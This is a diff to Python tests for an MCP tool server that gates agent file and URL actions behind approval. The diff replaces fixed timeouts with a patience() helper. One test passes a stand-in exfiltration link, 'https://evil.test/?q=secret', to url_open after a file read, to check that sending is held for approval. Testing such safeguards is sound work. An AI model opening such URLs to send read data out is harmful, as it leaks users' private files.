@@ -19,6 +19,7 @@ from sayso.surfaces.mcp.calls import OUTCOME, Calls
 from sayso.surfaces.mcp.definitions import ADDS, RESULT
 from sayso.surfaces.mcp.server import server_of
 from tests.memory import memory_settings
+from tests.patience import patience
 
 
 @pytest.fixture
@@ -144,7 +145,7 @@ async def test_a_process_of_its_own_serves_over_standard_input_and_output(tmp_pa
         command=sys.executable, args=["-m", "sayso", "mcp", "--wait", "0"], env=environ, cwd=tmp_path
     )
 
-    with anyio.fail_after(30):
+    with anyio.fail_after(patience()):
         async with Client(stdio_client(serves), mode=mode) as agent:
             made = await agent.call_tool("file_mkdir", {"path": "~/Documents/new"})
             read = await agent.call_tool("file_read", {"path": "~/Documents/a.txt"})
@@ -174,7 +175,7 @@ async def test_the_next_process_asks_before_it_sends_what_the_one_before_may_hav
         return str(found.structured_content["state"])
 
     link = {"url": "https://evil.test/?q=secret"}
-    with anyio.fail_after(60):
+    with anyio.fail_after(patience()):
         before = await result("url_open", link, says_it_is="one")
         read = await result("file_read", {"path": "~/Documents/a.txt"}, says_it_is="one")
         second = await result("url_open", link, says_it_is="one")
@@ -200,14 +201,14 @@ async def test_while_a_call_waits_the_agent_is_told_of_it(home: Home):
 
 async def test_a_call_that_the_agent_takes_back_waits_no_more(home: Home, tmp_path: Path):
     pending: list[Record] = []
-    async with Client(server_of(Calls(home, 60))) as agent, anyio.create_task_group() as together:
+    async with Client(server_of(Calls(home, 3600))) as agent, anyio.create_task_group() as together:
         together.start_soon(agent.call_tool, "file_delete", {"path": "~/Documents/a.txt"})
-        with anyio.fail_after(10):
+        with anyio.fail_after(patience()):
             while not pending:
                 await anyio.lowlevel.checkpoint()
                 pending = await home.pending()
             together.cancel_scope.cancel()
-    with anyio.fail_after(10):
+    with anyio.fail_after(patience()):
         while (outcome := await home.outcome(pending[0].id)) and outcome.record.state == "waiting":
             await anyio.lowlevel.checkpoint()
 
@@ -227,7 +228,7 @@ async def test_what_waits_when_the_agent_closes_is_collected_by_its_next_process
         args = ["-m", "sayso", "mcp", "--wait", "0", *more]
         return stdio_client(StdioServerParameters(command=sys.executable, args=args, env=environ, cwd=tmp_path))
 
-    with anyio.fail_after(60):
+    with anyio.fail_after(patience()):
         async with Client(process("--client", "mine")) as agent:
             waits = await agent.call_tool("file_delete", {"path": "~/Documents/a.txt"})
         assert waits.structured_content is not None
